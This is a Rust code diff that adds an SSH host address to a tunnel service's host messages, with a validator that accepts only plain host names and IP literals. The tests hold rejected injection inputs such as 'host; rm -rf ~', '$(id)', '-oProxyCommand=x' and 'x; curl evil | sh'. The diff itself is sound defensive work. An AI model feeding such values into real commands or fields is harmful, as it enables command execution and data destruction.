@@ -145,6 +145,46 @@ impl LinkTunnel {
     }
 }
 
+/// Where people reach a host, as it reports in [`HostMessage::Hello`]: what
+/// to pass to `ssh` and the domain its tunnels are served under. The panel
+/// shows it as a command to copy, so [`HostAddress::sane`] admits only host
+/// names and IP literals (nothing a shell would read as more than one word).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct HostAddress {
+    /// The public SSH host (`ssh ... <ssh_host>`).
+    pub ssh_host: String,
+    /// The public SSH port (`-p <ssh_port>`).
+    pub ssh_port: u16,
+    /// Tunnels are served as `<name>.<tunnel_domain>`.
+    pub tunnel_domain: String,
+}
+
+/// Whether `host` is a DNS name (letters, digits, `-`, `.`, `_`), an IPv4
+/// address, or an IPv6 literal (hex digits, `:` and `.`, optionally in `[]`).
+fn is_host_name(host: &str) -> bool {
+    let inner = host
+        .strip_prefix('[')
+        .and_then(|h| h.strip_suffix(']'))
+        .unwrap_or(host);
+    !inner.is_empty()
+        && host.len() <= 253
+        && !inner.starts_with(['-', '.'])
+        && (inner
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
+            || (inner.contains(':')
+                && inner
+                    .chars()
+                    .all(|c| c.is_ascii_hexdigit() || matches!(c, ':' | '.'))))
+}
+
+impl HostAddress {
+    /// Whether both names are plain host names and the port is not 0.
+    pub fn sane(&self) -> bool {
+        self.ssh_port != 0 && is_host_name(&self.ssh_host) && is_host_name(&self.tunnel_domain)
+    }
+}
+
 /// A frame from the host.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(tag = "type", rename_all = "snake_case")]
@@ -158,6 +198,9 @@ pub enum HostMessage {
         hostname: Option<String>,
         /// Every open tunnel.
         tunnels: Vec<LinkTunnel>,
+        /// Where people reach the host; absent from hosts older than the field.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        address: Option<HostAddress>,
     },
     /// A tunnel opened.
     Opened {
@@ -263,6 +306,9 @@ pub struct LinkStatus {
     pub last_seen_ms: Option<i64>,
     /// tunnel-host version from the last `Hello`.
     pub version: Option<String>,
+    /// Where people reach the host, from the last `Hello` that said.
+    #[serde(default)]
+    pub address: Option<HostAddress>,
     /// The tunnels the host last reported, oldest first.
     pub tunnels: Vec<LinkTunnel>,
 }
@@ -280,6 +326,9 @@ pub struct Link {
     pub last_seen_ms: Option<i64>,
     /// From the last `Hello`.
     pub version: Option<String>,
+    /// From the last `Hello` (saved before the field existed: none).
+    #[serde(default)]
+    pub address: Option<HostAddress>,
     /// Open tunnels by id.
     pub tunnels: BTreeMap<String, LinkTunnel>,
     /// When the current socket was last sent [`EdgeMessage::Watch`].
@@ -335,6 +384,7 @@ impl Link {
             online: self.online(now_ms),
             last_seen_ms: self.last_seen_ms,
             version: self.version.clone(),
+            address: self.address.clone().filter(HostAddress::sane),
             tunnels,
         }
     }
@@ -407,9 +457,14 @@ impl Link {
         self.last_seen_ms = Some(now_ms);
         match message {
             HostMessage::Hello {
-                version, tunnels, ..
+                version,
+                tunnels,
+                address,
+                ..
             } => {
                 self.version = Some(version.chars().take(MAX_FIELD).collect());
+                // A host that does not say (an older one) keeps no stale address.
+                self.address = address.filter(HostAddress::sane);
                 let fresh: BTreeMap<String, LinkTunnel> = tunnels
                     .into_iter()
                     .filter(LinkTunnel::sane)
@@ -575,7 +630,8 @@ mod tests {
             HostMessage::Hello {
                 version: "0.1.0".into(),
                 hostname: None,
-                tunnels: vec![]
+                tunnels: vec![],
+                address: None,
             }
         );
     }
@@ -588,6 +644,7 @@ mod tests {
         let hello = HostMessage::Hello {
             version: "0.1.0".into(),
             hostname: None,
+            address: None,
             tunnels: vec![tunnel("a", "alpha")],
         };
         assert_eq!(kinds(&link.receive(hello, 1_100)), ["tunnel.opened"]);
@@ -636,6 +693,7 @@ mod tests {
         let hello = HostMessage::Hello {
             version: "0.1.1".into(),
             hostname: None,
+            address: None,
             tunnels: vec![tunnel("c", "gamma")],
         };
         assert_eq!(
@@ -682,6 +740,7 @@ mod tests {
         let hello = HostMessage::Hello {
             version: "0.1.0".into(),
             hostname: None,
+            address: None,
             tunnels: vec![evil.clone(), tunnel("a", "alpha")],
         };
         assert_eq!(kinds(&link.receive(hello, 1)), ["tunnel.opened"]);
@@ -858,5 +917,90 @@ mod tests {
         bad.name = "n".repeat(MAX_FIELD + 1);
         link.receive(HostMessage::Opened { tunnel: bad }, 2);
         assert!(link.status(2).tunnels.is_empty());
+    }
+
+    fn address(host: &str, port: u16) -> HostAddress {
+        HostAddress {
+            ssh_host: host.into(),
+            ssh_port: port,
+            tunnel_domain: "tunnel.example.com".into(),
+        }
+    }
+
+    #[test]
+    fn the_hello_address_is_kept_listed_and_optional_on_the_wire() {
+        // An older host's hello (no address) still reads, and lists none.
+        let old: HostMessage = serde_json::from_value(
+            json!({ "type": "hello", "version": "0.1.0", "hostname": "h", "tunnels": [] }),
+        )
+        .unwrap_or(HostMessage::Heartbeat { tunnels: vec![] });
+        assert!(matches!(old, HostMessage::Hello { address: None, .. }));
+        let hello = HostMessage::Hello {
+            version: "0.2.0".into(),
+            hostname: None,
+            tunnels: vec![],
+            address: Some(address("ssh.example.com", 2022)),
+        };
+        let wire = serde_json::to_value(&hello).unwrap_or_default();
+        assert_eq!(
+            wire["address"],
+            json!({ "ssh_host": "ssh.example.com", "ssh_port": 2022, "tunnel_domain": "tunnel.example.com" })
+        );
+        let mut link = Link::new("h1", "o1");
+        link.connected(0);
+        link.receive(hello, 1);
+        assert_eq!(
+            link.status(2).address,
+            Some(address("ssh.example.com", 2022))
+        );
+        // State saved before the field existed still loads.
+        let saved = json!({ "host_id": "h1", "org_id": "o1", "connected": false,
+            "last_seen_ms": null, "version": null, "tunnels": {} });
+        let loaded: Link = serde_json::from_value(saved).unwrap_or_default();
+        assert_eq!((loaded.host_id.as_str(), loaded.address), ("h1", None));
+        // A later hello without an address forgets the old one.
+        link.receive(old, 3);
+        assert_eq!(link.status(4).address, None);
+    }
+
+    #[test]
+    fn only_plain_host_names_are_taken_as_addresses() {
+        for good in [
+            "ssh.example.com",
+            "127.0.0.1",
+            "localhost",
+            "[::1]",
+            "fe80::1",
+            "my_host",
+        ] {
+            assert!(address(good, 22).sane(), "{good}");
+        }
+        for bad in [
+            "",
+            "host; rm -rf ~",
+            "$(id)",
+            "-oProxyCommand=x",
+            "a b",
+            "host\n",
+            "evil`x`",
+            "user@host",
+            "host:2222",
+        ] {
+            assert!(!address(bad, 22).sane(), "{bad}");
+        }
+        assert!(!address("ok.example.com", 0).sane());
+        let mut bad_domain = address("ok.example.com", 22);
+        bad_domain.tunnel_domain = "<script>".into();
+        assert!(!bad_domain.sane());
+        let mut link = Link::new("h1", "o1");
+        link.connected(0);
+        let hello = HostMessage::Hello {
+            version: "0.2.0".into(),
+            hostname: None,
+            tunnels: vec![],
+            address: Some(address("x; curl evil | sh", 22)),
+        };
+        link.receive(hello, 1);
+        assert_eq!(link.status(2).address, None);
     }
 }
